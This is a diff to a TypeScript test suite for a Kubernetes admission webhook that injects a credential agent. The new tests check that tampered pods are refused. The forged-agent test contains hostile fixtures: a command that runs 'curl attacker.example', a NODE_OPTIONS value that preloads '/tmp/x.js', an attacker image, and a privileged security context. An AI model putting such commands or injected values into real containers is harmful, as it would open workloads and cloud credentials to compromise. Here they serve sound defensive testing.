@@ -32,6 +32,7 @@ const IRSA_ENV = [
   { name: "AWS_WEB_IDENTITY_TOKEN_FILE", value: "/var/run/secrets/eks.amazonaws.com/serviceaccount/token" },
 ];
 const IRSA_MOUNT = { name: "aws-iam-token", mountPath: "/var/run/secrets/eks.amazonaws.com/serviceaccount", readOnly: true };
+const IRSA_VOLUME = { name: "aws-iam-token", projected: { sources: [{ serviceAccountToken: { audience: "sts.amazonaws.com", expirationSeconds: 86400, path: "token" } }] } };
 
 describe("mutatePod", () => {
   it("never injects in kube-system, even when a grant there selects the pod", () => {
@@ -105,12 +106,72 @@ describe("mutatePod", () => {
     const agent = injected.spec?.initContainers?.[0] as Container;
     agent.env = [...(agent.env ?? []), ...IRSA_ENV];
     agent.volumeMounts = [...(agent.volumeMounts ?? []), IRSA_MOUNT];
+    injected.spec!.volumes = [...(injected.spec!.volumes ?? []), IRSA_VOLUME];
     expect(mutate(injected, [grant("g")])).toMatchObject({ patch: [], outcome: { reason: "AlreadyInjected" } });
   });
 
-  it("leaves an injected pod alone once its grant is gone", () => {
+  it("refuses a copy of an injected pod once its grant is gone, saying what to remove", () => {
     const injected = admitted(pod(), [grant("g")]);
-    expect(mutate(injected, []).patch).toEqual([]);
+    const result = mutate(injected, []);
+    expect(result).toMatchObject({ patch: [], outcome: { injected: false, reason: "UnverifiedAgent", grant: "g" } });
+    expect(result.refusal).toMatch(/picks grant g, which does not exist, is not allowed by cluster policy or does not select it.*remove the ddcred-agent container/);
+  });
+
+  it("converges a copy of an injected pod once the API server has filled in its defaults", () => {
+    const injected = admitted(pod(), [grant("g")]);
+    const agent = injected.spec?.initContainers?.[0] as Container;
+    agent.terminationMessagePath = "/dev/termination-log";
+    for (const variable of agent.env ?? []) if (variable.valueFrom?.fieldRef) variable.valueFrom.fieldRef.apiVersion = "v1";
+    expect(mutate(injected, [grant("g")])).toMatchObject({ patch: [], outcome: { injected: true, reason: "AlreadyInjected" } });
+  });
+
+  it("refuses a pod whose agent is configured for another grant than the one that selects it", () => {
+    const fromOther = admitted(pod(), [grant("other")]);
+    const onlyG = { ...fromOther, metadata: { ...fromOther.metadata, labels: { app: "etl" }, annotations: {} } };
+    const result = mutate(onlyG, [grant("g")]);
+    expect(result.outcome.reason).toBe("UnverifiedAgent");
+    expect(result.refusal).toMatch(/configured for grant other, while grant g selects it/);
+  });
+
+  it("refuses a pod whose agent runs another image, command or configuration than its grant gives", () => {
+    for (const forge of [
+      (agent: Container) => void (agent.image = "registry.example/attacker:1"),
+      (agent: Container) => void (agent.command = ["sh", "-c", "curl attacker.example"]),
+      (agent: Container) => void agent.env?.push({ name: "NODE_OPTIONS", value: "--require /tmp/x.js" }),
+      (agent: Container) => void (agent.securityContext = { privileged: true }),
+    ]) {
+      const injected = admitted(pod(), [grant("g")]);
+      forge(injected.spec?.initContainers?.[0] as Container);
+      expect(mutate(injected, [grant("g")]).outcome.reason).toBe("UnverifiedAgent");
+    }
+  });
+
+  it("refuses an injected pod whose credentials volume was swapped for another kind", () => {
+    const injected = admitted(pod(), [grant("g")]);
+    injected.spec!.volumes = [{ name: "ddcred", hostPath: { path: "/var/lib/shared" } }];
+    expect(mutate(injected, [grant("g")]).outcome.reason).toBe("UnverifiedAgent");
+  });
+
+  it("refuses a pod that opts out of injection yet carries the agent", () => {
+    const injected = admitted(pod(), [grant("g")]);
+    injected.metadata!.annotations = { ...injected.metadata!.annotations, "ddcred.io/inject": "false" };
+    expect(mutate(injected, [grant("g")]).refusal).toMatch(/opts out of injection/);
+  });
+
+  it("admits a pod that shares its process namespace uninjected, with a warning", () => {
+    const shared = { ...pod(), spec: { ...pod().spec!, shareProcessNamespace: true } };
+    const result = mutate(shared, [grant("g")]);
+    expect(result).toMatchObject({ patch: [], outcome: { injected: false, reason: "SharedProcessNamespace" } });
+    expect(result.warnings).toEqual([expect.stringMatching(/shareProcessNamespace.*\/proc/)]);
+  });
+
+  it("tells the user which envFrom sources ddcred's env overrides, and stays quiet about prefixed ones that cannot collide", () => {
+    const main: Container = {
+      name: "main",
+      envFrom: [{ configMapRef: { name: "settings" } }, { secretRef: { name: "keys" }, prefix: "APP_" }, { configMapRef: { name: "aws" }, prefix: "AWS_" }],
+    };
+    const result = mutate(pod({ containers: [main] }), [grant("g")]);
+    expect(result.warnings).toEqual([expect.stringMatching(/container main takes env from ConfigMap settings, ConfigMap aws;.*set it under env/)]);
   });
 
   it("never gives the agent static AWS keys the app container carries", () => {
